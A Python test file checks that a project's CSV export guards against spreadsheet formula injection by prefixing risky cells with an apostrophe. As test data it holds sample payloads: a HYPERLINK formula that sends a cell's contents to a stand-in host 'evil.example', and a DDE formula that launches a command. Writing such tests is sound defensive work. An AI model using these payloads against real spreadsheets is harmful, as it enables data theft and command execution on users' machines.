"""Issue 18 row 3: no CSV hvo writes lets a spreadsheet run a user's text as a formula.

A name or municipality starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
written with a leading apostrophe in every CSV (OWASP "CSV Injection"); numbers stay numbers; on
screen (the table output) the text shows as typed. One writer for the project
(``hvo_tui/domain/csv_out.py``): a test finds no other ``csv.writer`` in the code."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from hvo_tui.cli import main
from hvo_tui.domain.csv_out import FORMULA_START, csv_text, safe_cell
from store.db import open_database

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1;"klik")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text
    row = next(csv.reader(io.StringIO(csv_text(None, [[text, "gewoon"]]), newline="")))
    # a carriage return inside a cell becomes a (quoted) line feed: the row stays one row
    assert row == [("'" + text).replace("\r", "\n"), "gewoon"]


@pytest.mark.parametrize(
    "value",
    ["", "Roermond", "Jan = Piet", "a@b.nl", "-12.50", "+3", "-1,5", "1.234,56", 42, -7, 1.5, None],
)
def test_other_cells_and_numbers_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_every_formula_start_the_rule_names_is_covered():
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}
    assert {t[0] for t in HOSTILE} == set(FORMULA_START)


def test_no_other_csv_writer_in_the_code():
    writers = []
    for base in ("hvo_tui", "store", "screens"):
        for path in (ROOT / base).rglob("*.py"):
            if path.name == "csv_out.py":
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if (
                    isinstance(node, ast.Attribute)
                    and node.attr in ("writer", "DictWriter")
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                ):
                    writers.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert writers == [], writers


def _hvo(capsys, *args) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def test_costs_allocate_neutralises_a_hostile_municipality_and_shows_it_as_typed(capsys, tmp_path):
    path = tmp_path / "gemeenten.csv"
    path.write_text(
        "gemeente,inwoners,zaken\n"
        '"=HYPERLINK(""http://evil.example"")",50000,10\n'
        "@SUM(A1),20000,10\n"
        "Roermond,30000,5\n",
        encoding="utf-8",
    )
    args = ("costs", "allocate", "--total", "1000", "--model", "zaken", "--input", str(path))
    code, out, err = _hvo(capsys, *args, "--format", "csv")
    assert (code, err) == (0, "")
    names = [row["gemeente"] for row in csv.DictReader(io.StringIO(out))]
    assert names[:3] == ['\'=HYPERLINK("http://evil.example")', "'@SUM(A1)", "Roermond"]
    code, out, _ = _hvo(capsys, *args, "--format", "table")
    assert code == 0 and '=HYPERLINK("http://evil.example")' in out and "'=" not in out


def test_accounts_list_csv_neutralises_a_hostile_name(capsys, tmp_path):
    url = f"sqlite:///{tmp_path / 'shared.db'}"
    open_database(url, auto_upgrade=True).dispose()
    name = "=cmd|' /C calc'!A0"
    code, _, err = _hvo(
        capsys,
        "--database",
        url,
        "accounts",
        "create",
        "peter",
        "--naam",
        name,
        "--rol",
        "beheerder",
        "--organisatie",
        "+Veiligheidshuis Midden-Limburg",
    )
    assert code == 0, err  # such a name is accepted, as typed
    code, out, _ = _hvo(capsys, "--database", url, "accounts", "list", "--format", "csv")
    row = next(csv.DictReader(io.StringIO(out)))
    assert (row["naam"], row["organisatie"]) == ("'" + name, "'+Veiligheidshuis Midden-Limburg")
    code, out, _ = _hvo(capsys, "--database", url, "accounts", "list")
    assert name in out and "'=" not in out
